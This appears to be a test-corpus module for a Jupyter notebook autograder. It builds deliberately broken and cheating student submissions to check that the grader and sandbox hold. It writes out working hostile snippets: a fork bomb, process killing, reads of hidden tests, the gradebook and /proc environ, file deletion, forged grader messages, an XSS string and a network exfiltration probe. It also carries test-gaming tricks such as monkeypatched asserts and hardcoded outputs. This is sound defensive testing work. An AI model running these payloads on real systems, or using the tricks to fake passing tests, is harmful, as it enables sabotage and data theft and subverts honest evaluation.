"""Faulty and hostile submissions, with the outcome the grader must give each.

Used by the tests (``tests/test_grader_corpus.py``) and the benchmark
(``benchmarks/bench_grading.py``). Every entry is built from the course's
student release: answered with the reference code, then broken on purpose.
An entry knows its expected score per graded function, its status and a
phrase its reason must contain, so a test can hold the grader to it.

The cheats are written so that they could only get credit if the attack
worked: e.g. the disk-reading entry has no code of its own and would define
correct functions only from a source notebook it managed to read.
"""

from __future__ import annotations

import json
import os
import re
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from autograder.hidden_checks import CHECKS
from autograder.reference import ASSIGNMENT, GRADED_FUNCTIONS, reference_solutions

COST, L2_BACKWARD, DROP_FORWARD, DROP_BACKWARD = GRADED_FUNCTIONS
NOTEBOOK = "Regularization.ipynb"
_MARKERS = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION.*\n?", re.M)


@dataclass
class Context:
    """What entries may refer to: the release, the course and repo paths, a port, a marker."""

    release: dict
    course_root: Path
    repo_root: Path
    port: int = 0  # a port the test listens on (127.0.0.1); 0: no network entry
    marker: str = "GRADER-CORPUS-MARK"  # written by every write attempt, searched for afterwards


@dataclass(frozen=True)
class Entry:
    name: str
    kind: str  # correct, fault, cheat
    build: Callable[[Context], dict[str, bytes] | None]  # files of the submission folder; None: no folder
    scores: dict[str, float]  # expected points per graded function
    status: str | tuple  # expected status (or the statuses a race may give)
    #: a phrase the result's reason (or notes) must contain; "" means the reason must be empty
    #: (nothing went wrong that the grader should report). Where a race decides the status, a
    #: phrase per status.
    reason: str | dict
    shows: str = ""  # a phrase the graded notebook must contain (what happened, where the reason is empty)
    slow: bool = False  # waits for timeouts
    extra: dict = field(default_factory=dict)


# ------------------------------------------------------------------ builders


def release_notebook(course_root: Path) -> dict:
    return json.loads((course_root / "release" / ASSIGNMENT / NOTEBOOK).read_text(encoding="utf-8"))


def _solution_sources(course_root: Path) -> dict[str, str]:
    source = json.loads((course_root / "source" / ASSIGNMENT / NOTEBOOK).read_text(encoding="utf-8"))
    cells = {}
    for cell in source["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution") and meta.get("grade_id") in GRADED_FUNCTIONS:
            cells[meta["grade_id"]] = _MARKERS.sub("", "".join(cell["source"]))
    return cells


def answered(ctx: Context, replace: dict[str, str] | None = None) -> dict:
    """The release with every graded cell answered by the reference code (or by ``replace``)."""
    notebook = json.loads(json.dumps(ctx.release))
    sources = _solution_sources(ctx.course_root)
    sources.update(replace or {})
    for cell in notebook["cells"]:
        gid = cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")
        if gid in sources:
            cell["source"] = sources[gid]
    return notebook


def wrapped(ctx: Context, function: str, body: str) -> str:
    """The reference cell of ``function``, then a redefinition that runs ``body`` first."""
    real = _solution_sources(ctx.course_root)[function]
    return (
        f"{real}\n\n_real_{function} = {function}\n\n\ndef {function}(*args, **kwargs):\n"
        f"{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n"
        f"    return _real_{function}(*args, **kwargs)\n"
    )


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}


def insert_after(notebook: dict, grade_id: str, *cells: dict) -> dict:
    for index, cell in enumerate(notebook["cells"]):
        if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id:
            notebook["cells"][index + 1 : index + 1] = list(cells)
            return notebook
    raise LookupError(grade_id)


def stubbed(ctx: Context) -> dict[str, str]:
    """Graded functions that ignore their inputs (wrong work)."""
    return {
        f: f"def {f}(*args, **kwargs):\n    return {'0.0' if f == COST else '{}'}\n" for f in GRADED_FUNCTIONS
    }


def dumps(notebook: dict) -> bytes:
    return (json.dumps(notebook, indent=1, ensure_ascii=False) + "\n").encode("utf-8")


def files(notebook: dict, name: str = NOTEBOOK) -> dict[str, bytes]:
    return {name: dumps(notebook)}


FULL = dict.fromkeys(GRADED_FUNCTIONS, 10.0)
ZERO = dict.fromkeys(GRADED_FUNCTIONS, 0.0)


def but(**scores: float) -> dict[str, float]:
    names = {"cost": COST, "l2_back": L2_BACKWARD, "drop_fwd": DROP_FORWARD, "drop_back": DROP_BACKWARD}
    return {**FULL, **{names[k]: v for k, v in scores.items()}}


# ---------------------------------------------------------- the hostile code

_LOOP_UNLESS_NOTEBOOK_LAMBD = """
lambd = kwargs.get("lambd", args[3] if len(args) > 3 else None)
if lambd not in (0.1, 0.7):  # the notebook's own cells pass: only the hidden tests hang
    while True:
        pass
"""

_EXIT = "import os\nos._exit(1)"
#: Forks until the process limit says no; the children sleep (they would otherwise race the parent
#: to report the cell) and die with the sandbox.
_FORK_BOMB = """
import os, time
while True:
    if os.fork() == 0:
        time.sleep(600)
        os._exit(0)
"""
_KILL_AND_LINGER = """
import os, signal, subprocess
subprocess.Popen(["sleep", "600"], start_new_session=True)
os.kill(os.getppid(), signal.SIGKILL)
os.kill(-1, signal.SIGKILL)
"""

_HARDCODED = """
import numpy as _np

def {name}(*args, **kwargs):
    return {value}
"""


def _literal(value) -> str:
    """Python source that rebuilds a plain reference output (floats, arrays, tuples, dicts)."""
    import numpy as np

    if isinstance(value, np.ndarray):
        return f"_np.array({value.tolist()!r}, dtype={str(value.dtype)!r})"
    if isinstance(value, tuple):
        return "(" + ", ".join(_literal(v) for v in value) + ",)"
    if isinstance(value, dict):
        return "{" + ", ".join(f"{k!r}: {_literal(v)}" for k, v in value.items()) + "}"
    return repr(value)


def hardcoded(ctx: Context) -> dict[str, bytes]:
    """Every function returns the reference output on the notebook's fixture, computed offline."""
    import testCases

    kwargs = {COST: {"lambd": 0.1}, L2_BACKWARD: {"lambd": 0.7}, DROP_FORWARD: {"keep_prob": 0.7},
              DROP_BACKWARD: {"keep_prob": 0.8}}  # fmt: skip
    answers = {}
    for name, function in reference_solutions().items():
        output = function(*getattr(testCases, f"{name}_test_case")(), **kwargs[name])
        answers[name] = _HARDCODED.format(name=name, value=_literal(output))
    return files(answered(ctx, answers))


def _read_attack(ctx: Context) -> str:
    course, repo = ctx.course_root.resolve(), ctx.repo_root.resolve()
    return f"""
import glob, json, os, sys
_found = None
_candidates = [
    "../../../source/{ASSIGNMENT}/{NOTEBOOK}", "../../source/{ASSIGNMENT}/{NOTEBOOK}",
    "../../../../autograder/source/{ASSIGNMENT}/{NOTEBOOK}",
    {str(course / "source" / ASSIGNMENT / NOTEBOOK)!r},
    {str(repo / "autograder" / "source" / ASSIGNMENT / NOTEBOOK)!r},
]
for _pattern in ("/work/*/autograder/source/*/*.ipynb", "/tmp/**/source/*/*.ipynb",
                 "/root/**/source/*/*.ipynb", "/proc/*/cwd/**/source/*/*.ipynb",
                 "/proc/*/root" + {str(course)!r} + "/source/*/*.ipynb"):
    _candidates += glob.glob(_pattern, recursive=True)
for _path in _candidates:
    try:
        with open(_path) as _handle:
            _found = json.load(_handle)
        break
    except Exception:
        pass
try:  # the instructor package itself
    sys.path[:0] = [{str(repo)!r}, "../../../..", "/work/main"]
    from autograder.reference import reference_solutions as _refs
    globals().update(_refs())
    print("LEAK: imported the reference solutions")
except Exception as _exc:
    print("no instructor package:", type(_exc).__name__)
if _found:
    print("LEAK: read the source notebook")
    for _cell in _found["cells"]:
        if _cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
            exec("".join(_cell["source"]), globals())
for _path in ("../../../gradebook.db", "../../gradebook.db", {str(course / "gradebook.db")!r}):
    try:
        with open(_path, "rb") as _handle:
            print("LEAK: read the gradebook", len(_handle.read()))
    except Exception:
        pass
for _path in ({str(repo / "autograder" / "hidden_checks.py")!r}, "/proc/1/environ", "/proc/1/cmdline"):
    try:
        with open(_path, "rb") as _handle:
            _data = _handle.read()
        if b"CHECKS" in _data or b"autograder" in _data:
            print("LEAK: read", _path)
    except Exception:
        pass
"""


def read_attack(ctx: Context) -> dict[str, bytes]:
    """No work of its own: correct functions only if the source notebook or the package were readable."""
    stubs = "\n".join(stubbed(ctx).values())
    attack = f"{_read_attack(ctx)}\nif not _found and 'LEAK' not in str(globals().get('_refs')):\n" + (
        textwrap.indent(stubs, "    ")
    )
    cells = {COST: attack, **dict.fromkeys(GRADED_FUNCTIONS[1:], "pass\n")}
    return files(answered(ctx, cells))


def _write_attack(ctx: Context) -> str:
    course, repo, mark = ctx.course_root.resolve(), ctx.repo_root.resolve(), ctx.marker
    return f"""
import glob, os, shutil
_mark = {mark!r}
_targets = [{str(course / "gradebook.db")!r}, "../../../gradebook.db", "../../gradebook.db",
            {str(course / "source" / ASSIGNMENT / NOTEBOOK)!r},
            {str(repo / "autograder" / "hidden_checks.py")!r}, {str(repo / "Makefile")!r}]
_targets += glob.glob({str(course / "submitted" / "*" / ASSIGNMENT / "*.ipynb")!r})
_targets += glob.glob("../../*/{ASSIGNMENT}/*.ipynb")
_done = []
for _path in _targets:
    for _attempt in (lambda p: open(p, "a").write(_mark), os.remove, lambda p: os.rename(p, p + _mark)):
        try:
            _attempt(_path)
            _done.append(_path)
        except Exception:
            pass
for _folder in ({str(course / "source")!r}, {str(course / "autograded")!r}, {str(repo / "autograder")!r}):
    try:
        shutil.rmtree(_folder)
        _done.append(_folder)
    except Exception:
        pass
for _folder in ({str(course)!r}, {str(repo)!r}, "/tmp", "/var/tmp", "/dev/shm", "../..", "/work"):
    try:
        with open(os.path.join(_folder, _mark + ".txt"), "w") as _handle:
            _handle.write(_mark)
        _done.append(_folder)
    except Exception:
        pass
print("write attempts that did not raise:", _done)
"""


def write_attack(ctx: Context) -> dict[str, bytes]:
    """Correct work plus attempts to delete or rewrite the gradebook, the source, others' work, the repo."""
    return files(insert_after(answered(ctx), "imports", code_cell(_write_attack(ctx))))


_SUPPRESS = """
import sys
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda shell, etype, evalue, tb, tb_offset=None: None)
ip.showtraceback = lambda *args, **kwargs: None
ip._showtraceback = lambda *args, **kwargs: None
sys.excepthook = lambda *args: None

def _swallow(lines):
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]

ip.input_transformers_cleanup.append(_swallow)
"""

_MONKEYPATCH = """
import numpy as np
np.isclose = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_almost_equal = lambda *args, **kwargs: None
import builtins
builtins.AssertionError = type("AssertionError", (Exception,), {})
"""

_FAKE_PASS = """
print("All tests passed.")
for _name in {names!r}:
    print(f"[PASS] {{_name}}: 10/10")
print("Total score: 40/40")
import json, os, struct
for _fd in range(3, 1024):  # forge the grader's wire protocol, in case a descriptor leads there
    for _k in range(60):
        _body = json.dumps({{"t": "check", "k": _k, "id": "l2_cost_fixture", "outputs": [1.0]}}).encode()
        try:
            os.write(_fd, b"RGW1" + struct.pack("!IB", os.getpid(), 1) + _body)
        except OSError:
            pass
"""


#: Finds the harness's locals on the stack (what an attacker inside the sandbox process can do).
_HARNESS = """
import json as _json, os as _os, struct as _struct, sys as _sys

def _harness(name):  # IPython has a _run_cell of its own: the harness's is the one holding "state"
    frame = _sys._getframe()
    while frame is not None and not (frame.f_code.co_name == name and "state" in frame.f_locals):
        frame = frame.f_back
    return frame.f_locals if frame is not None else None

def _datagram(body, pid=None, last=1):
    return b"RGW1" + _struct.pack("!IB", pid or _os.getpid(), last) + body
"""

#: A well-formed message for the running test whose outputs have the wrong type, then one that
#: lies about an array's shape: the grader must judge these as failures, never crash on them.
_FORGED_CHECK = """
_loc = _harness("_run_check")
if _loc is not None:
    _sock, _k, _id = _loc["state"].sock, _loc["k"], _loc["step"]["id"]
    _sock.send(_datagram(_json.dumps({"t": "fault", "k": _k, "how": {"not": "a string"}}).encode()))
    _sock.send(_datagram(_json.dumps({"t": "check", "k": _k, "id": _id, "outputs": OUTPUTS}).encode()))
"""

#: Millions of first datagrams from made-up senders, none ever finished.
_DATAGRAM_FLOOD = """
_sock = _harness("_run_cell")["state"].sock
for _pid in range(1, 5_000_000):
    _sock.send(_datagram(b"x", pid=_pid, last=0))
"""

_HTML = "<img src=x onerror=alert(1)>"
#: A fault report with markup in it, then a crash so that the forged report is the one kept.
_FORGED_FAULT = f"""
_loc = _harness("_run_cell")
_loc["state"].sock.send(_datagram(_json.dumps({{"t": "fault", "k": _loc["k"], "how": {_HTML!r}}}).encode()))
_os._exit(0)
"""
_ANSI = "\x1b[2K\r[40/40] \x1b[32mall tests passed"

#: Images filling many cells: each cell is within its own cap, the notebook is not.
_IMAGE_FLOOD = """
from IPython.display import Image, display
display(Image(data=b"\\x89PNG\\r\\n\\x1a\\n" + bytes(1_400_000), format="png"))
"""


def _top_level_files(ctx: Context) -> str:
    names = sorted(e.name for e in os.scandir("/") if e.is_file(follow_symlinks=False))
    return f"""
import os
for _name in {names!r} + [n for n in os.listdir("/") if os.path.isfile("/" + n)]:
    try:
        with open("/" + _name, "rb") as _handle:
            _handle.read(1)
        print("LEAK: read the top-level file", _name)
    except OSError:
        pass
"""


def _network(ctx: Context) -> str:
    return f"""
import socket
for _host in ("127.0.0.1", "localhost", "::1"):
    try:
        with socket.create_connection((_host, {ctx.port}), timeout=2) as _s:
            _s.sendall({ctx.marker!r}.encode())
        print("LEAK: connected to", _host)
    except OSError as _exc:
        print("network blocked:", _host, _exc)
"""


# ------------------------------------------------------------ oracles in the kit

#: The two L2 functions written with the judge of the visible checks instead of formula (2): the
#: judge's own right factor and sum of squares for the cost; for dW, the penalty factor among the
#: judge's catalogue that the judge itself accepts. ``_l2_judge`` says how the judge is reached.
_L2_BY_THE_JUDGE = """
def compute_cost_with_regularization(A3, Y, parameters, lambd):
    judge = _l2_judge()
    factor = judge._factors(lambd, Y.shape[1], Y.shape[0])[0][0]
    return compute_cost(A3, Y) + factor * judge._sums(parameters)[0]


def backward_propagation_with_regularization(X, Y, cache, lambd):
    judge = _l2_judge()
    plain = backward_propagation(X, Y, cache)
    weights = {1: cache[2], 2: cache[6], 3: cache[10]}
    for factor, _ in judge._factors(lambd, X.shape[1], Y.shape[0]):
        grads = dict(plain, **{f"dW{l}": plain[f"dW{l}"] + factor * W for l, W in weights.items()})
        if judge.judge_l2_backward({"X": X, "Y": Y, "cache": cache, "lambd": lambd}, grads).ok:
            return grads
    return plain
"""

_IMPORTS_THE_JUDGE = """
def _l2_judge():
    import testCases.l2_judge

    return testCases.l2_judge
"""

#: Loads the judge from its file (and says so if the file or its bytecode held the judge).
_READS_THE_JUDGE = """
def _l2_judge():
    import glob, os, types, testCases

    folder = os.path.dirname(testCases.__file__)
    for path in glob.glob(os.path.join(folder, "__pycache__", "l2_judge.*")):
        print("LEAK: found the judge's bytecode", os.path.basename(path))
    path = os.path.join(folder, "l2_judge.py")
    with open(path, encoding="utf-8") as handle:
        text = handle.read()
    if "def judge_cost" in text:
        print("LEAK: read the judge's source")
    module = types.ModuleType("testCases.l2_judge_copy")
    module.__package__ = "testCases"
    exec(compile(text, path, "exec"), module.__dict__)
    return module
"""

#: The two L2 functions from the explorer's engine, its grading guard switched off while they run
#: (and back on after, so that the notebook's training cells stay short): the penalty is the
#: objective minus the cross-entropy, the penalty's dW the weight change of one step at learning
#: rate 1 with lambd, minus the same step without.
_L2_BY_THE_ENGINE = """
import contextlib as _contextlib
import os as _os


@_contextlib.contextmanager
def _unguarded_engine():
    grading = _os.environ.pop("NBGRADER_EXECUTION", None)
    try:
        from reg_utils import engine

        yield engine
    finally:
        if grading is not None:
            _os.environ["NBGRADER_EXECUTION"] = grading


def compute_cost_with_regularization(A3, Y, parameters, lambd):
    X = np.zeros((parameters["W1"].shape[1], Y.shape[1]))
    with _unguarded_engine() as engine:
        objective = [engine.train(X, Y, parameters, 1.0, 1, lambd=l, record_every=1)[1][0] for l in (lambd, 0.0)]
    return compute_cost(A3, Y) + objective[0] - objective[1]


def backward_propagation_with_regularization(X, Y, cache, lambd):
    parameters = dict(zip(("W1", "b1", "W2", "b2", "W3", "b3"), (cache[i] for i in (2, 3, 6, 7, 10, 11))))
    with _unguarded_engine() as engine:
        with_l2, without = (engine.train(X, Y, parameters, 1.0, 1, lambd=l)[0] for l in (lambd, 0.0))
    grads = backward_propagation(X, Y, cache)
    for l in (1, 2, 3):
        grads[f"dW{l}"] = grads[f"dW{l}"] + without[f"W{l}"] - with_l2[f"W{l}"]
    return grads
"""

#: The attacks on the kit's oracles, by name: the code that replaces both L2 cells.
ORACLE_ATTACKS = {
    "calls_the_judge": _IMPORTS_THE_JUDGE + _L2_BY_THE_JUDGE,
    "reads_the_judge_source": _READS_THE_JUDGE + _L2_BY_THE_JUDGE,
    "unguards_the_engine": _L2_BY_THE_ENGINE,
}


#: What the graded notebook says where an attack reached for a hidden module.
ORACLE_REASON = "not available while a notebook is graded"


def oracle_attack(name: str) -> Callable[[Context], dict[str, bytes]]:
    """A submission whose L2 functions come from a kit oracle; the rest is the reference."""

    def build(ctx: Context) -> dict[str, bytes]:
        return files(answered(ctx, {COST: ORACLE_ATTACKS[name], L2_BACKWARD: "pass\n"}))

    return build


# ------------------------------------------------------------------ catalogue


def entries(ctx: Context) -> list[Entry]:
    """The corpus. Entries needing a port are left out when ``ctx.port`` is 0."""
    e = []
    for n in (1, 2):
        e.append(
            Entry(
                f"correct_{n}",
                "correct",
                lambda c: files(answered(c)),
                FULL,
                "ok",
                "",
                shows="training shortened",
            )
        )
    e += [
        Entry("unanswered_release", "fault", lambda c: files(c.release), ZERO, "ok", "NameError"),
        Entry("infinite_loop_in_cost", "fault",
              lambda c: files(answered(c, {COST: wrapped(c, COST, _LOOP_UNLESS_NOTEBOOK_LAMBD)})),
              but(cost=0), "faults", "did not return within", slow=True),
        Entry("infinite_loop_in_a_cell", "fault",
              lambda c: files(insert_after(answered(c), "imports", code_cell("while True:\n    pass\n"))),
              FULL, "faults", "did not finish within", slow=True),
        Entry("os_exit_in_dropout_forward", "fault",
              lambda c: files(answered(c, {DROP_FORWARD: wrapped(c, DROP_FORWARD, _EXIT)})),
              but(drop_fwd=0), "faults", "exited with status 1"),
        Entry("segfault_in_dropout_backward", "fault",
              lambda c: files(answered(c, {DROP_BACKWARD: wrapped(c, DROP_BACKWARD,
                                                                  "import ctypes\nctypes.string_at(0)")})),
              but(drop_back=0), "faults", "segmentation fault"),
        # np.zeros reserves without touching: the address-space limit stops it at once, on any machine
        Entry("memory_hog_cell", "fault",
              lambda c: files(insert_after(answered(c), "imports", code_cell(
                  "def hog():\n    chunks = []\n    while True:\n        chunks.append(np.zeros(2**25))\n"
                  "hog()\n"))),
              FULL, "ok", "", shows="this cell ran out of memory; its effects were discarded"),
        Entry("memory_hog_in_l2_backward", "fault",
              lambda c: files(answered(c, {L2_BACKWARD: wrapped(c, L2_BACKWARD,
                                                                "_hog = bytearray(64 * 2**30)")})),
              but(l2_back=0), "ok", "MemoryError"),
        Entry("output_flood", "fault",
              lambda c: files(insert_after(answered(c), "imports", code_cell(
                  "for i in range(200_000):\n    print('line', i)\n"))),
              FULL, "ok", "", shows="more characters of output were cut"),
        Entry("not_json", "fault", lambda c: {NOTEBOOK: b"{'cells': [this is not JSON"}, ZERO, "invalid",
              "not valid JSON"),
        Entry("empty_file", "fault", lambda c: {NOTEBOOK: b""}, ZERO, "invalid", "empty"),
        Entry("renamed_notebook", "fault", lambda c: files(answered(c), "Regularization (2).ipynb"), FULL,
              "ok", "renamed by the student"),
        Entry("two_notebooks", "fault",
              lambda c: {**files(answered(c)), **files(c.release, "Regularization-draft.ipynb")}, FULL, "ok",
              "also found Regularization-draft.ipynb"),
        Entry("stripped_metadata", "fault", lambda c: files(_stripped(answered(c))), FULL, "ok",
              "no nbgrader metadata"),
        Entry("deleted_and_edited_cells", "fault", lambda c: files(_mangled(answered(c))), FULL, "ok",
              "added back"),
        Entry("missing_notebook", "fault", lambda c: {"answers.txt": b"I did it in my head."}, ZERO,
              "missing", "no notebook"),
        Entry("no_assignment_folder", "fault", lambda c: None, ZERO, "missing", "no assignment folder"),
        Entry("fork_bomb_at_the_end", "fault", lambda c: files(_appended(answered(c), _FORK_BOMB)),
              FULL, "ok", "", shows="BlockingIOError"),
        # whether the last cell's death is seen before the end of the notebook is a race
        Entry("kill_everything_and_linger", "cheat",
              lambda c: files(_appended(answered(c), _KILL_AND_LINGER)),
              FULL, ("ok", "faults"), {"ok": "", "faults": "the sandbox ended before finishing the notebook"}),
        # cheats: none may get credit for work it did not do
        Entry("monkeypatched_numpy", "cheat",
              lambda c: files(insert_after(answered(c, stubbed(c)), "imports", code_cell(_MONKEYPATCH))),
              ZERO, "ok", "The cost is 0 where formula (2) gives"),
        Entry("suppressed_exceptions", "cheat",
              lambda c: files(insert_after(answered(c, stubbed(c)), "imports", code_cell(_SUPPRESS))),
              ZERO, "ok", "The cost is 0 where formula (2) gives"),
        Entry("hardcoded_outputs", "cheat", hardcoded, ZERO, "ok", "hard-coded"),
        Entry("reads_hidden_tests_and_gradebook", "cheat", read_attack, ZERO, "ok",
              "The cost is 0 where formula (2) gives"),
        Entry("rewrites_gradebook_source_and_others", "cheat", write_attack, FULL, "ok", "",
              shows="write attempts that did not raise: ['/tmp', '/dev/shm']"),  # its own tmpfs only
        Entry("prints_fake_passes", "cheat",
              lambda c: files(_appended(answered(c, stubbed(c)), _FAKE_PASS.format(names=sorted(CHECKS)))),
              ZERO, "faults", "the sandbox sent malformed data (result for a step that is not running)"),
        Entry("forged_test_metadata", "cheat", lambda c: files(_forged(answered(c, stubbed(c)))), ZERO, "ok",
              "The cost is 0 where formula (2) gives"),
        # the grader's own data paths: each ends in a recorded grade for this student only
        Entry("forged_message_wrong_types", "cheat",
              lambda c: files(answered(c, {COST: wrapped(c, COST, _HARNESS + _FORGED_CHECK.replace(
                  "OUTPUTS", repr({"not": "a list"})))})),
              ZERO, "faults", "the sandbox sent malformed data (second result for a test)"),
        Entry("forged_absurd_shape", "cheat",
              lambda c: files(answered(c, {COST: wrapped(c, COST, _HARNESS + _FORGED_CHECK.replace(
                  "OUTPUTS", repr([{"$nd": ["<f8", [10**30], ""]}] * 3)))})),
              ZERO, "faults", "the sandbox sent malformed data (second result for a test)"),
        Entry("datagram_flood", "cheat",
              lambda c: files(_appended(answered(c), _HARNESS + _DATAGRAM_FLOOD)),
              FULL, "faults", "processes sent unfinished messages"),
        Entry("deep_folder", "fault",
              lambda c: {**files(answered(c)), "d/" * 1200 + "deep.txt": b"deep"}, FULL, "ok", ""),
        Entry("html_in_notebook_name", "cheat", lambda c: files(answered(c), f"{_HTML}.ipynb"), FULL, "ok",
              "renamed by the student", extra={"html": True}),
        Entry("html_in_nbformat_field", "cheat",
              lambda c: {NOTEBOOK: json.dumps({"nbformat": _HTML, "cells": []}).encode()}, ZERO, "invalid",
              "is not supported", extra={"html": True}),
        Entry("html_in_fault_text", "cheat", lambda c: files(_appended(answered(c), _HARNESS + _FORGED_FAULT)),
              FULL, "faults", _HTML, extra={"html": True}),
        Entry("ansi_in_exception_text", "cheat",
              lambda c: files(answered(c, {COST: wrapped(c, COST, f"raise RuntimeError({_ANSI!r})")})),
              but(cost=0), "ok", "the function raised RuntimeError"),
        Entry("lone_surrogate_in_output", "fault",
              lambda c: files(insert_after(answered(c), "imports", code_cell('print("half \\ud800 pair")'))),
              FULL, "ok", "", shows="half \ufffd pair"),
        Entry("non_utf8_notebook_name", "fault",
              lambda c: files(answered(c), os.fsdecode(b"Regularization-\xff.ipynb")), FULL, "ok",
              "renamed by the student"),
        Entry("huge_return_in_dropout_forward", "fault",
              lambda c: files(answered(c, {DROP_FORWARD: wrapped(c, DROP_FORWARD, "return np.ones(5 * 10**6)")})),
              but(drop_fwd=0), "ok", "at most 4 MB is accepted"),
        Entry("image_flood_across_cells", "fault",
              lambda c: files(insert_after(answered(c), "imports", *[code_cell(_IMAGE_FLOOD)] * 10)),
              FULL, "ok", "", shows="the outputs of this notebook exceeded 12 MB"),
        Entry("reads_top_level_files", "cheat",
              lambda c: files(insert_after(answered(c), "imports", code_cell(_top_level_files(c)))),
              FULL, "ok", ""),
        *(Entry(name, "cheat", oracle_attack(name), but(cost=0, l2_back=0), "ok", ORACLE_REASON)
          for name in ORACLE_ATTACKS),
    ]  # fmt: skip
    if ctx.port:
        e.append(
            Entry(
                "network_exfiltration",
                "cheat",
                lambda c: files(insert_after(answered(c), "imports", code_cell(_network(c)))),
                FULL,
                "ok",
                "",
                shows="network blocked",
            )
        )
    return e


def _stripped(notebook: dict) -> dict:
    for cell in notebook["cells"]:
        cell["metadata"] = {}
    notebook["metadata"] = {}
    return notebook


def _mangled(notebook: dict) -> dict:
    """Test cells deleted, the import and model cells edited, a locked markdown cell deleted."""
    kept = []
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade") or meta.get("grade_id") == "intro":
            continue
        if meta.get("grade_id") == "imports":
            cell["source"] = "import numpy as np\n"
        if meta.get("grade_id") == "model":
            cell["source"] = "def model(*args, **kwargs):\n    raise RuntimeError('no training today')\n"
        kept.append(cell)
    notebook["cells"] = kept
    return notebook


def _forged(notebook: dict) -> dict:
    """Every test cell replaced by `pass`, and a student cell claiming to be each test."""
    for cell in notebook["cells"]:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("grade"):
            cell["source"] = "pass\n"
            meta["points"] = 100
    notebook["cells"].append(
        {**code_cell("print('all good')"), "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus",
                                                                     "points": 50, "solution": False}}}
    )  # fmt: skip
    return notebook


def _appended(notebook: dict, source: str) -> dict:
    notebook["cells"].append(code_cell(source))
    return notebook


def write_submission(entry: Entry, ctx: Context, student: str | None = None) -> Path | None:
    """Create ``submitted/<student>/regularization`` with the entry's files; returns the folder."""
    student_folder = ctx.course_root / "submitted" / (student or entry.name)
    content = entry.build(ctx)
    if content is None:
        student_folder.mkdir(parents=True, exist_ok=True)
        (student_folder / "README.txt").write_text("handed in the wrong folder\n")
        return None
    folder = student_folder / ASSIGNMENT
    folder.mkdir(parents=True, exist_ok=True)
    for name, data in content.items():
        _write(folder, name, data)
    return folder


def _write(folder: Path, relative: str, data: bytes) -> None:
    """Write ``folder/relative``, creating its folders one level at a time (no recursion: any depth)."""
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    *parents, name = relative.split("/")
    try:
        for part in parents:
            try:
                os.mkdir(part, dir_fd=fd)
            except FileExistsError:
                pass
            inner = os.open(part, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
            os.close(fd)
            fd = inner
        out = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)
        with os.fdopen(out, "wb") as handle:
            handle.write(data)
    finally:
        os.close(fd)


def make_course(root: Path) -> Path:
    """A fresh course under ``root``: the repo's nbgrader config and source, released (gradebook created)."""
    import shutil

    from autograder import tools

    root.mkdir(parents=True, exist_ok=True)
    shutil.copy(tools.COURSE_ROOT / "nbgrader_config.py", root)
    shutil.copytree(tools.COURSE_ROOT / "source", root / "source")
    tools.release(root, publish=False)
    return root
